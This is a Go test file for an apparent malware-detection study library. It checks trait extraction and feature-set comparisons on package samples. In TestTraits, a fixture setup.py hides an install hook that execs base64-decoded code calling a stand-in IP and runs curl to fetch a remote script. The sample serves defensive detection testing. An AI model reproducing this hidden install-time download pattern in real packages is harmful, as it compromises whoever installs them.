package study_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/study"
)

// TestTraits: what a package with a hidden download in its install command says.
func TestTraits(t *testing.T) {
	got := map[study.TraitKind][]string{}
	for _, tr := range unitOf(t, map[string]string{
		"setup.py": `import base64, os
from setuptools import setup
from setuptools.command.install import install
class Now(install):
    def run(self):
        exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHA6Ly8xOTIuMC4yLjEvYSIp"))
        os.system("curl http://192.0.2.7/b.sh")
setup(cmdclass={"install": Now})
`,
		"pkg/__init__.py": "import os\nos.getenv('HOME')\nthing.start()\n",
	}).Traits {
		require.Positive(t, tr.Value, tr)
		got[tr.Kind] = append(got[tr.Kind], tr.Name)
	}
	for kind, want := range map[study.TraitKind][]string{
		study.TraitSize:   {"apis", "calls", "files", "lines"},
		study.TraitMethod: {"?.start"},
		study.TraitLayer:  {"any", "depth", "base64", "exec"},
		study.TraitAPI:    {"<builtin>.exec", "base64.b64decode", "os.getenv", "os.system", "urllib.request.urlopen"},
		study.TraitPhase: {
			"setup install by function process", "setup install by function code-exec", "setup install by function net-http",
			"init import env",
		},
		study.TraitPair: {
			"function code-exec process", "function decode process", "setup decode process", "file net-http process",
		},
		study.TraitLiteral: {"ip", "ip of process", "ip of net-http", "hidden ip", "program curl", "in file ip"},
		study.TraitText:    {"longest", "densest", "line", "string", "density"},
		study.TraitName:    {"os.system", "exec", "base64.b64decode", "thing.start"},
	} {
		require.Subset(t, got[kind], want, kind)
	}
	require.NotContains(t, got[study.TraitAPI], "setuptools.setup", "packaging")
	require.NotContains(t, got[study.TraitName], "setup")
	require.NotContains(t, got[study.TraitPair], "file env process", "they stand in two files")
}

// TestPrototypes: what fewer than five groups do is no column, the best are, and
// a set that knows only the size is worth nothing where sizes are equal.
func TestPrototypes(t *testing.T) {
	c := made()
	for class, list := range [][]study.Unit{c.Malicious, c.Benign, c.Whole} {
		for i := range list {
			u := &list[i]
			u.Traits = []study.Trait{
				{Kind: study.TraitAPI, Name: fmt.Sprint("of ", u.Group), Value: 1},
				{Kind: study.TraitAPI, Name: "of all", Value: 1},
				{Kind: study.TraitSize, Name: "lines", Value: 3},
			}
			if class == 0 {
				u.Traits = append(u.Traits, study.Trait{Kind: study.TraitAPI, Name: "bad", Value: 1})
			}
		}
	}
	size := study.Variant{Name: "size", Traits: []study.TraitChoice{{Kind: study.TraitSize}}}
	best := study.Variant{Name: "best", Traits: []study.TraitChoice{{Kind: study.TraitAPI, Top: 1}}}
	all := study.Variant{Name: "all", Traits: []study.TraitChoice{{Kind: study.TraitAPI}, {Kind: study.TraitSize}}}
	results := compare(t, c, quick, size, best, all)
	for i, want := range []struct{ columns, auc float64 }{{1, 0.5}, {1, 1}, {3, 1}} {
		for _, r := range results[2*i : 2*i+2] {
			require.Equal(t, want.columns, r.Columns, r.Variant)
			require.Equal(t, want.auc, r.All.AUC.Value, r.Variant)
		}
	}
}

// TestPrototypesAreSorted: the sets grow, and each kind is chosen once.
func TestPrototypesGrow(t *testing.T) {
	sets := study.Prototypes()
	for i := 3; i < len(sets); i++ {
		require.Subset(t, sets[i].Traits, sets[i-1].Traits)
		kinds := map[study.TraitKind]bool{}
		for _, c := range sets[i].Traits {
			require.False(t, kinds[c.Kind])
			kinds[c.Kind] = true
		}
		require.False(t, kinds[study.TraitSize], "size must not decide")
	}
}

// unitOf reads one package of the given files.
func unitOf(t *testing.T, files map[string]string) study.Unit {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		name = filepath.Join(dir, "p", name)
		require.NoError(t, os.MkdirAll(filepath.Dir(name), 0o755))
		require.NoError(t, os.WriteFile(name, []byte(text), 0o644))
	}
	manifest := filepath.Join(dir, "manifest.tsv")
	require.NoError(t, os.WriteFile(manifest, []byte("path\tlabel\tgroup\np\tmalicious\tf\n"), 0o644))
	d, err := datasets.Load(manifest, datasets.Limits{})
	require.NoError(t, err)
	c, skipped, err := study.Read(t.Context(), d, quick)
	require.NoError(t, err)
	require.Empty(t, skipped)
	return c.Malicious[0]
}

// TestFactTraits: facts say of a package what the package does; of what is called as
// the published code writes it, what few families and origins call is left out.
func TestFactTraits(t *testing.T) {
	d := collection(t)
	for i := range d.Samples {
		d.Samples[i].Role = ""
	}
	live, _, err := study.Read(t.Context(), d, study.Options{Seed: 1, TraitsAlone: true})
	require.NoError(t, err)
	recorded, err := study.FactCorpus(asRead(t, d, study.FactOptions{Seed: 1}).Records)
	require.NoError(t, err)
	groups := map[string]map[string]bool{}
	for _, list := range [][]study.Unit{live.Malicious, live.Benign, live.Whole} {
		for _, u := range list {
			for _, tr := range u.Traits {
				if tr.Kind == study.TraitName {
					if groups[tr.Name] == nil {
						groups[tr.Name] = map[string]bool{}
					}
					groups[tr.Name][u.Group] = true
				}
			}
		}
	}
	names := 0
	for class, list := range [][]study.Unit{live.Malicious, live.Benign, live.Whole} {
		want := map[string]study.Unit{}
		for _, u := range list {
			u.Traits = slices.DeleteFunc(u.Traits, func(tr study.Trait) bool { return tr.Kind == study.TraitName && len(groups[tr.Name]) < 5 })
			want[u.ID] = u
		}
		got := [][]study.Unit{recorded.Malicious, recorded.Benign, recorded.Whole}[class]
		require.Len(t, got, len(want))
		for _, u := range got {
			require.Equal(t, want[u.ID], u)
			for _, tr := range u.Traits {
				if tr.Kind == study.TraitName {
					names++
				}
			}
		}
	}
	require.Positive(t, names)
}
